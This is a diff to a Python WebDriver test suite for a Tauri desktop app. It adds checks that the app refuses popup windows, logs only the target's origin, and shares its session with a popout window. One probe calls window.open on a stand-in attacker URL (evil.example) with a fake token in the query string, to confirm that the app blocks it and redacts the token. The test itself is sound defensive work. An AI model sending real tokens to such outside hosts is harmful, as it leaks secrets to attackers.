@@ -23,8 +23,16 @@ import urllib.request
 
 PORT = int(os.environ.get("TAURI_DRIVER_PORT", "4444"))
 BASE = f"http://127.0.0.1:{PORT}"
-# tauri-driver and the app's own log (the app inherits tauri-driver's output).
-LOG = open(os.environ.get("DESKTOP_WEBDRIVER_LOG", os.devnull), "ab")
+# tauri-driver and the app's own log (the app inherits tauri-driver's output); read back by
+# checks that look for the app's security log lines.
+LOG_PATH = os.environ.get("DESKTOP_WEBDRIVER_LOG") or tempfile.mkstemp(prefix="relay-desktop-wd-", suffix=".log")[1]
+LOG = open(LOG_PATH, "ab")
+
+
+def log_text():
+    LOG.flush()
+    with open(LOG_PATH, "rb") as f:
+        return f.read().decode("utf-8", "replace")
 
 
 def call(method, path, body=None, timeout=60, attempts=3):
@@ -103,6 +111,25 @@ def check_connect_src(sid, server):
     print(f"ok   CSP connect-src is {' '.join(connect)} (another port refused)")
 
 
+def check_window_open_handler(sid):
+    """window.open from a real click (a user gesture, so WebKit asks the app instead of dropping
+    it as an unrequested popup) reaches the shell's new-window handler, which refuses it and logs
+    the target's origin only."""
+    before = len(call("GET", f"/session/{sid}/window/handles")["value"])
+    probe = ("const b = document.createElement('button'); b.id = 'window-open-probe'; b.textContent = 'probe';"
+             "b.onclick = () => { window.__probe = window.open('https://evil.example/popup?token=wo-secret-123'); };"
+             "document.body.appendChild(b); return true;")
+    call("POST", f"/session/{sid}/execute/sync", {"script": probe, "args": []})
+    call("POST", f"/session/{sid}/element/{element(sid, '#window-open-probe')}/click", {})
+    line = wait_for("the new-window refusal in the app log",
+                    lambda: [ln for ln in log_text().splitlines() if "new window blocked" in ln], timeout=10)[-1]
+    assert "https://evil.example" in line and "wo-secret-123" not in log_text() and "/popup" not in line, line
+    assert len(call("GET", f"/session/{sid}/window/handles")["value"]) == before, "window.open created a window"
+    call("POST", f"/session/{sid}/execute/sync",
+         {"script": "document.getElementById('window-open-probe').remove(); return true;", "args": []})
+    print(f"ok   window.open from a click refused by the new-window handler (log: origin only)")
+
+
 def sign_in_flow(sid, server, secret):
     revealed = invoke(sid, "reveal_passphrase")
     assert revealed.get("ok") == secret, "reveal_passphrase did not return the data-dir passphrase"
@@ -135,6 +162,26 @@ def sign_in_flow(sid, server, secret):
     print("ok   a contact created over the API arrived in the window via realtime (2 of 2)")
 
 
+def check_popout_borrows_the_session(sid):
+    """After the main window signed in, a popout opens signed in with the borrowed session
+    (aux_session): the read-only board renders and no sign-in screen is shown."""
+    main_handle = call("GET", f"/session/{sid}/window")["value"]
+    before = set(call("GET", f"/session/{sid}/window/handles")["value"])
+    opened = invoke(sid, "open_aux_window", {"route": "popout/board"})
+    assert opened.get("ok") == "aux-popout-board", opened
+    new = wait_for("the popout window",
+                   lambda: set(call("GET", f"/session/{sid}/window/handles")["value"]) - before, timeout=15)
+    call("POST", f"/session/{sid}/window", {"handle": new.pop()})
+    wait_for("the read-only board in the popout", lambda: texts(sid, "[data-testid=board-week]"), timeout=20)
+    assert not texts(sid, "[data-testid=signin-submit]"), "the popout asked for the passphrase"
+    shared = invoke(sid, "share_session", {"token": None})
+    assert shared.get("err", {}).get("code") == "forbidden", shared
+    call("POST", f"/session/{sid}/window", {"handle": main_handle})
+    assert invoke(sid, "aux_session").get("err", {}).get("code") == "forbidden", "main window borrowed"
+    print("ok   popout opened signed in with the main window's session; share_session is main-only, "
+          "aux_session aux-only")
+
+
 def main():
     app = os.path.abspath(sys.argv[1])
     driver = shutil.which("tauri-driver") or os.path.expanduser("~/.cargo/bin/tauri-driver")
@@ -150,7 +197,7 @@ def main():
             except Exception:
                 time.sleep(0.2)
         caps = {"capabilities": {"alwaysMatch": {"tauri:options": {
-            "application": app, "args": ["--data-dir", data_dir, "--server-mode", "--port", "0"]}}}}
+            "application": app, "args": ["--data-dir", data_dir, "--server-mode", "--bind", "127.0.0.1", "--no-mdns", "--port", "0"]}}}}
         sid = call("POST", "/session", caps, attempts=1)["value"]["sessionId"]
         call("POST", f"/session/{sid}/timeouts", {"script": 30000, "implicit": 10000})
 
@@ -212,8 +259,11 @@ def main():
         assert len(call("GET", f"/session/{sid}/window/handles")["value"]) == 2, "window.open created a window"
         print(f"ok   navigation to another origin blocked, window.open refused ({result})")
 
+        check_window_open_handler(sid)
         check_connect_src(sid, info["ok"]["serverUrl"])
         sign_in_flow(sid, info["ok"]["serverUrl"], secret)
+
+        check_popout_borrows_the_session(sid)
 
         shot = call("GET", f"/session/{sid}/screenshot")["value"]
         assert len(shot) > 1000
